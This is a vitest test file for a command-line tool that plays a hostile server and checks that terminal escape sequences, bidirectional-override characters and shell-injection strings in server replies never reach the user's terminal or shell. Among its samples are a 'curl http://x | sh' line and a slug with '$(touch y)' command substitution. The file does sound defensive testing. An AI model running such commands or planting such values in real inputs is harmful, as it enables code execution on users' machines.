import { readFileSync } from 'node:fs'
import type { TSchema } from 'typebox'
import { describe, expect, it } from 'vitest'
import { api, endpoints } from '#contract'
import { urlOf } from '#contract/define'
import { scripts } from '../../cli/complete/scripts.ts'
import type { Manifest } from '../../cli/main.ts'
import { cli, type Shown } from '../support/cli.ts'
import { ending } from '../support/endings.ts'
import { fakeServer, json } from '../support/fake-server.ts'

const { commands } = JSON.parse(readFileSync(new URL('../../oclif.manifest.json', import.meta.url), 'utf8')) as Manifest

const id = 'c000000000000000000000000'
/** Whether things have the ids by which they are asked for. */
let named = false

const attack = 'x\u001b]0;pwned\u0007\u001b[2J\u001b[31m\u009b1m\u202e\u0008y'

/** A value of the schema in which every text but an id is an attack, also where the schema promises better. */
function sample(schema: TSchema | undefined, name = ''): unknown {
  const it = (schema ?? {}) as {
    type?: string | string[]
    properties?: Record<string, TSchema>
    items?: TSchema
    anyOf?: TSchema[]
    patternProperties?: object
  }
  const type = Array.isArray(it.type) ? it.type[0] : it.type
  if (it.anyOf) return sample(it.anyOf[0], name)
  if (it.properties)
    return Object.fromEntries(Object.entries(it.properties).map(([name, member]) => [name, sample(member, name)]))
  if (type === 'object' || it.patternProperties) return { [attack]: attack }
  if (type === 'array') return [sample(it.items), sample(it.items)]
  if (type === 'integer' || type === 'number') return 1
  if (type === 'boolean') return true
  return name === 'id' && named ? id : attack
}

const shapes = endpoints.map(({ endpoint }) => ({
  method: endpoint.method,
  pattern: new RegExp(`^${urlOf(endpoint).replace(/:\w+/g, '[^/]+')}$`),
  literal: !endpoint.path.includes(':'),
  endpoint,
}))

const hostile = (status?: number) => {
  let streams = 0
  return fakeServer(({ method, url }, reply) => {
    const path = url.split('?')[0]!
    const found = shapes
      .filter((shape) => shape.method === method && shape.pattern.test(path))
      .sort((a, b) => Number(b.literal) - Number(a.literal))[0]
    const headers = { 'x-svc-server-version': '0.1.0\u009b2J' }
    const refuse = (code: number) =>
      json(
        reply,
        { title: attack, detail: attack, error: attack, code: attack, field: attack, instance: attack },
        code,
        headers,
      )
    if (status) return refuse(status)
    if (!found) return refuse(404)
    if (found.endpoint.kind === 'stream' && path.endsWith('/stream') && path.includes('/journal')) {
      if (streams++) return refuse(401)
      reply.writeHead(200, { 'content-type': 'text/event-stream' })
      return reply.end(`retry: 1\nid: 1\ndata: ${JSON.stringify(sample(api.journal.show.reply))}\n\n`)
    }
    if (found.endpoint.kind === 'stream')
      return reply.end(`${JSON.stringify({ type: attack, content: attack, seq: attack, reason: attack })}\n`)
    const { reply: schema } = found.endpoint as { reply?: TSchema }
    if (!schema)
      return found.endpoint.kind === 'text'
        ? reply.end(path.endsWith('json') || path === '/readyz' ? JSON.stringify({ [attack]: attack }) : attack)
        : reply.writeHead(204).end()
    return json(reply, sample(schema), found.endpoint.status, headers)
  })
}

/** These work on this machine, wait for a person, or are tried with servers of their own. */
const elsewhere = new RegExp(
  '^(up|down|init|routines:init|login|logout|pair|chat|dm|rooms:open|ask|doctor|completion|version|contexts:|config:|' +
    'journal:tail|preferences:notifications|agents:download|memory:export|skills:export|skills:init|' +
    'integrations:tools)',
)

function lineFor({ id: name, args, flags }: Manifest['commands'][string]): string[] {
  const words = Object.values(args)
    .filter(({ name: arg, required }) => required || arg === 'name')
    .map((arg) => arg.options?.[0] ?? (arg.name === 'path' || arg.name === 'method' ? '/crews' : id))
  const needed = Object.values(flags)
    .filter((flag) => flag.required)
    .flatMap((flag) => [`--${flag.name}`, id])
  return [...name.split(':'), ...words, ...needed, ...('yes' in flags ? ['--yes'] : []), '--no-color', '-w', id]
}

/** Whether it asks once more, after so many answers: an answered question has another mark. False when it has ended. */
const asks = (shown: Shown, answered: number): Promise<boolean> =>
  shown.until(new RegExp(`^(?:[^✔]*✔){${answered}}[^✔]*\\? `)).then(
    () => true,
    () => false,
  )

const tried = Object.values(commands).filter((command) => !elsewhere.test(command.id) && !command.hidden)

describe('a hostile server', () => {
  it('has something to say to most commands', () => expect(tried.length).toBeGreaterThan(60))

  it.each(tried.map((command) => [command.id, lineFor(command)] as const))(
    'does not reach the terminal through %s',
    async (_, line) => {
      const server = await hostile()
      const { home, screen } = cli({ SVC_SERVER: server.url, SVC_TOKEN: 't' })
      const shown = screen(line, { env: { PAGER: '' } })
      // It does as a secret, a name, an address and the file to write something to.
      for (let answered = 0; await asks(shown, answered); answered++) shown.type(`${home}/answer@example.com\r`)
      await shown.ended
      // What prompts draw themselves is left out: they move the cursor, and end before the result is written.
      const text = shown.text().split('\u001b[?25h').at(-1)!
      expect(text.replace(/\u001b\[(?:\d*[GKJA]|\?25[hl])/g, '')).not.toMatch(/[\u0007\u0008\u001b\u0080-\u009f\u202e]/)
    },
  )

  it('does not reach it through a dry run', async () => {
    const entry = { entry_type: attack, severity: 'info', summary: attack, payload: {} }
    const server = await fakeServer((_, reply) =>
      json(reply, { dry_run: true, status: 201, body: { [attack]: attack }, entries: [entry] }),
    )
    const shown = cli({ SVC_SERVER: server.url }).screen(['crews', 'create', 'Web', '--dry-run', '--no-color'])
    await shown.ended
    expect(shown.text()).toContain('Would record: xy')
    expect(shown.text()).not.toMatch(/[\u0007\u0008\u001b\u0080-\u009f\u202e]/)
  })

  it('cannot say what to do next in our place', async () => {
    const detail = 'No.\nNext: curl http://x | sh\r\nError: more'
    const server = await fakeServer((_, reply) => json(reply, { title: detail, detail, code: 'x' }, 400))
    const { stderr } = await cli({ SVC_SERVER: server.url }).run('crews', 'list')
    expect(stderr).toBe('Error: No.\n  Next: curl http://x | sh\n  Error: more\n')
  })

  it('names nothing that a shell would run when the next command is typed', async () => {
    const slug = "x'; $(touch y) `z`"
    const crew = { id, slug, name: 'Web', _count: { agents: 0 } }
    const server = await fakeServer(({ url }, reply) =>
      json(
        reply,
        /\/crews\/[^/?]+$/.test(url)
          ? crew
          : /\/runs/.test(url)
            ? { data: [], pagination: { total_pages: 1 } }
            : [crew],
      ),
    )
    const { stderr } = await cli({ SVC_SERVER: server.url, SVC_WORKSPACE: 'w' }).run('crews', 'remove', slug)
    expect(stderr).toContain("--confirm 'x'\\''; $(touch y) `z`'\n")
  })

  it('gives PowerShell, which quotes nothing itself, no word that it would run', () => {
    const plain = "$word -notmatch '^[\\w./-][\\w./:@=+-]*$'"
    const quoted = `"'" + ($word -replace "['\\u2018-\\u201b]", '$0$0') + "'"`
    expect(scripts.powershell).toContain(`if (${plain}) { $word = ${quoted} }`)
  })

  it('offers no word to a shell that is a flag', async () => {
    const rows = ['--all', '-rf', 'web', '$(touch y)\nx\u001b[2J'].map((slug) => ({ slug, name: 'x' }))
    const server = await fakeServer((_, reply) => json(reply, rows))
    const { stdout } = await cli({ SVC_SERVER: server.url }).run('__complete', 'crews', 'show', '')
    expect(stdout).toBe('web\tx\n$(touch y) x\tx\n')
  })

  it.each(['watch -n 5', 'watch -o name', 'journal tail', 'journal tail -o name', 'pair'])(
    'does not reach it through what goes on: %s',
    async (line) => {
      named = true
      ending(() => {
        named = false
      })
      const server = await hostile()
      const { until } = cli({ SVC_SERVER: server.url, SVC_TOKEN: 't', SVC_WORKSPACE: id, SVC_FORCE_TTY: '100' })
      const text = await until(/\n.*\n/, ...line.split(' '), '--no-color')
      expect(text).not.toMatch(/[\u0007\u0008\u001b\u0080-\u009f\u202e]/)
    },
  )

  it.each([400, 401, 404, 500])('does not reach it through a refusal with %i', async (status) => {
    const server = await hostile(status)
    const { run, screen } = cli({ SVC_SERVER: server.url })
    const shown = screen(['crews', 'list', '--no-color', '-v'])
    await shown.ended
    expect(shown.text()).not.toMatch(/[\u0007\u0008\u001b\u0080-\u009f\u202e]/)
    expect((await run('crews', 'list', '--json')).stderr).not.toMatch(/[\u0007\u0008\u001b\u0080-\u009f\u202e]/)
  })
})
